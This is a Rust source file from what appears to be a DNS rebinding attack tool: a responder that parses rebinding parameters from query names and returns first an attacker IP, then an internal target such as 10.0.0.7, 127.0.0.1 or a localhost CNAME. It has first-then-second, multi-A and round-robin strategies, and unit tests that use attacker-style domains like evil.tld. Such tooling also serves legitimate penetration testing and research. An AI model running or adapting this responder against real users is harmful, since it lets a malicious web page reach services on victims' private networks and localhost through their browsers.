//! DNS responder core.
//!
//! Transports hand raw packets here; the responder parses the rebinding
//! parameters out of each A question, runs them through the session
//! store and the selected strategy, and encodes the reply. Every packet
//! that parses as a DNS request gets a reply; the attack depends on the
//! browser always resolving something.

use std::sync::Arc;
use std::time::Instant;

use tracing::{debug, info};

use crate::config::AppConfig;
use crate::dns::{DnsMessage, DnsQuestion, DnsReply, OPCODE_QUERY, RTYPE_A};
use crate::query::{HostTarget, RebindQuery};
use crate::session::{SessionSeed, SessionStore};
use crate::strategy::Strategy;

pub struct Responder {
    config: Arc<AppConfig>,
    store: Arc<SessionStore>,
}

impl Responder {
    pub fn new(config: Arc<AppConfig>, store: Arc<SessionStore>) -> Self {
        Self { config, store }
    }

    /// Handle one DNS request, returning the reply bytes. `None` means
    /// the packet was not a parseable DNS request and is dropped.
    pub fn handle(&self, packet: &[u8]) -> Option<Vec<u8>> {
        self.handle_at(packet, Instant::now())
    }

    /// As [`Responder::handle`], with the arrival time injected.
    pub fn handle_at(&self, packet: &[u8], now: Instant) -> Option<Vec<u8>> {
        let request = DnsMessage::parse(packet)?;
        let mut reply = DnsReply::for_request(&request);

        if request.opcode == OPCODE_QUERY {
            for question in &request.questions {
                if question.qtype == RTYPE_A {
                    self.answer(question, now, &mut reply);
                }
            }
        }

        Some(reply.to_bytes())
    }

    /// Drive one A question through parse → upsert → strategy → touch
    /// and append the answer records.
    fn answer(&self, question: &DnsQuestion, now: Instant, reply: &mut DnsReply) {
        info!(qname = %question.qname, "received A query");

        // Parse failures still get an answer: defaults from the config
        // under the empty session id, always the first host.
        let (session, seed, strategy) = match RebindQuery::parse(&question.qname) {
            Ok(parsed) => {
                debug!(session = %parsed.session, strategy = ?parsed.strategy, "parsed query name");
                let seed = SessionSeed {
                    response_ip: HostTarget::Ip(parsed.response_ip),
                    rebound_ip: parsed.rebound_ip,
                    rebound_timeout: self.config.rebound_timeout,
                    cache_flush: parsed.cache_flush,
                    now,
                };
                let strategy = parsed.strategy.unwrap_or(self.config.default_strategy);
                (parsed.session, seed, strategy)
            }
            Err(err) => {
                debug!(qname = %question.qname, %err, "query name not parseable, using defaults");
                let seed = SessionSeed {
                    response_ip: self.config.response_ip,
                    rebound_ip: self.config.rebound_ip,
                    rebound_timeout: self.config.rebound_timeout,
                    cache_flush: false,
                    now,
                };
                (String::new(), seed, Strategy::First)
            }
        };

        let created = self.store.upsert(&session, seed);
        debug!(session = %session, created, strategy = strategy.name(), "session upserted");

        let answers = strategy.answers(&session, &self.store);

        // Timestamps advance only after the strategy ran: timing-based
        // strategies must see the gap to the previous query.
        self.store.touch(&session, now);

        match answers.as_slice() {
            [HostTarget::Localhost] => reply.push_cname_localhost(&question.qname),
            [HostTarget::Ip(ip)] => reply.push_a(&question.qname, 0, *ip),
            multiple => {
                for target in multiple {
                    // `localhost` has no A encoding; such members are
                    // dropped from multi-answer sets.
                    if let HostTarget::Ip(ip) = target {
                        reply.push_a(&question.qname, 10, *ip);
                    }
                }
            }
        }

        info!(session = %session, answers = reply.answer_count(), "answered");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dns::{CLASS_IN, RTYPE_CNAME};
    use std::net::Ipv4Addr;
    use std::path::PathBuf;
    use std::time::Duration;

    fn test_config(default_strategy: Strategy) -> Arc<AppConfig> {
        Arc::new(AppConfig {
            dns_port: 0,
            http_ports: vec![],
            response_ip: HostTarget::Ip(Ipv4Addr::new(192, 0, 2, 1)),
            rebound_ip: HostTarget::Ip(Ipv4Addr::new(192, 0, 2, 2)),
            default_strategy,
            rebound_timeout: Duration::from_secs(60),
            session_ttl: Duration::from_secs(600),
            allow_dynamic_servers: false,
            web_root: PathBuf::from("./html"),
        })
    }

    fn responder(default_strategy: Strategy) -> Responder {
        Responder::new(test_config(default_strategy), Arc::new(SessionStore::new()))
    }

    fn query_packet(qname: &str, qtype: u16, opcode: u8) -> Vec<u8> {
        let mut packet = Vec::new();
        packet.extend_from_slice(&0x4242u16.to_be_bytes());
        packet.extend_from_slice(&(((opcode as u16) << 11) | 0x0100).to_be_bytes());
        packet.extend_from_slice(&1u16.to_be_bytes());
        packet.extend_from_slice(&[0; 6]);
        for label in qname.split('.') {
            packet.push(label.len() as u8);
            packet.extend_from_slice(label.as_bytes());
        }
        packet.push(0);
        packet.extend_from_slice(&qtype.to_be_bytes());
        packet.extend_from_slice(&CLASS_IN.to_be_bytes());
        packet
    }

    /// Answer records of a reply as (rtype, ttl, rdata) triples.
    fn decode_answers(reply: &[u8]) -> Vec<(u16, u32, Vec<u8>)> {
        let ancount = u16::from_be_bytes([reply[6], reply[7]]) as usize;
        let mut pos = 12;
        // Skip question section.
        let qdcount = u16::from_be_bytes([reply[4], reply[5]]) as usize;
        for _ in 0..qdcount {
            while reply[pos] != 0 {
                pos += 1 + reply[pos] as usize;
            }
            pos += 1 + 4;
        }
        let mut answers = Vec::with_capacity(ancount);
        for _ in 0..ancount {
            while reply[pos] != 0 {
                pos += 1 + reply[pos] as usize;
            }
            pos += 1;
            let rtype = u16::from_be_bytes([reply[pos], reply[pos + 1]]);
            let ttl = u32::from_be_bytes([
                reply[pos + 4],
                reply[pos + 5],
                reply[pos + 6],
                reply[pos + 7],
            ]);
            let rdlength = u16::from_be_bytes([reply[pos + 8], reply[pos + 9]]) as usize;
            pos += 10;
            answers.push((rtype, ttl, reply[pos..pos + rdlength].to_vec()));
            pos += rdlength;
        }
        answers
    }

    #[test]
    fn first_then_second_serves_attacker_then_target() {
        let r = responder(Strategy::First);
        let packet = query_packet(
            "s-1.2.3.4-10.0.0.7-abc-fromqueryfirstthensecond-e.evil.tld",
            RTYPE_A,
            OPCODE_QUERY,
        );

        let first = r.handle(&packet).unwrap();
        let second = r.handle(&packet).unwrap();

        assert_eq!(decode_answers(&first), vec![(RTYPE_A, 0, vec![1, 2, 3, 4])]);
        assert_eq!(decode_answers(&second), vec![(RTYPE_A, 0, vec![10, 0, 0, 7])]);
    }

    #[test]
    fn multi_a_serves_both_hosts_with_ttl_ten() {
        let r = responder(Strategy::First);
        let packet = query_packet(
            "s-1.2.3.4-127.0.0.1-xyz-fromquerymultia-e.evil.tld",
            RTYPE_A,
            OPCODE_QUERY,
        );

        let reply = r.handle(&packet).unwrap();

        assert_eq!(
            decode_answers(&reply),
            vec![
                (RTYPE_A, 10, vec![1, 2, 3, 4]),
                (RTYPE_A, 10, vec![127, 0, 0, 1]),
            ]
        );
    }

    #[test]
    fn localhost_rebind_answers_cname() {
        let r = responder(Strategy::First);
        let packet = query_packet(
            "s-1.2.3.4-localhost-k-fromqueryfirstthensecond-e.evil.tld",
            RTYPE_A,
            OPCODE_QUERY,
        );

        let first = r.handle(&packet).unwrap();
        let second = r.handle(&packet).unwrap();

        assert_eq!(decode_answers(&first), vec![(RTYPE_A, 0, vec![1, 2, 3, 4])]);
        let answers = decode_answers(&second);
        assert_eq!(answers.len(), 1);
        assert_eq!(answers[0].0, RTYPE_CNAME);
        assert_eq!(answers[0].1, 10);
    }

    #[test]
    fn round_robin_alternates_across_queries() {
        let r = responder(Strategy::First);
        let packet = query_packet(
            "s-1.2.3.4-10.0.0.7-rr-fromqueryroundrobin-e.evil.tld",
            RTYPE_A,
            OPCODE_QUERY,
        );

        let rdatas: Vec<Vec<u8>> = (0..3)
            .map(|_| decode_answers(&r.handle(&packet).unwrap())[0].2.clone())
            .collect();

        assert_eq!(rdatas, vec![vec![1, 2, 3, 4], vec![10, 0, 0, 7], vec![1, 2, 3, 4]]);
    }

    #[test]
    fn unparseable_name_answers_config_default() {
        let r = responder(Strategy::MultiA);

        let reply = r.handle(&query_packet("www.example.com", RTYPE_A, OPCODE_QUERY)).unwrap();

        // Forced first strategy, not the configured default.
        assert_eq!(decode_answers(&reply), vec![(RTYPE_A, 0, vec![192, 0, 2, 1])]);
    }

    #[test]
    fn unknown_strategy_falls_back_to_configured_default() {
        let r = responder(Strategy::MultiA);
        let packet = query_packet(
            "s-1.2.3.4-10.0.0.7-abc-doesnotexist-e.evil.tld",
            RTYPE_A,
            OPCODE_QUERY,
        );

        let reply = r.handle(&packet).unwrap();

        assert_eq!(decode_answers(&reply).len(), 2);
    }

    #[test]
    fn non_a_questions_get_empty_reply() {
        let r = responder(Strategy::First);

        let reply = r.handle(&query_packet("evil.tld", 28, OPCODE_QUERY)).unwrap();

        assert_eq!(decode_answers(&reply).len(), 0);
        assert_eq!(u16::from_be_bytes([reply[4], reply[5]]), 1, "question echoed");
    }

    #[test]
    fn non_query_opcodes_get_empty_reply() {
        let r = responder(Strategy::First);

        let reply = r.handle(&query_packet("evil.tld", RTYPE_A, 2)).unwrap();

        assert_eq!(decode_answers(&reply).len(), 0);
    }

    #[test]
    fn garbage_gets_no_reply() {
        let r = responder(Strategy::First);

        assert!(r.handle(&[0u8; 5]).is_none());
    }
}
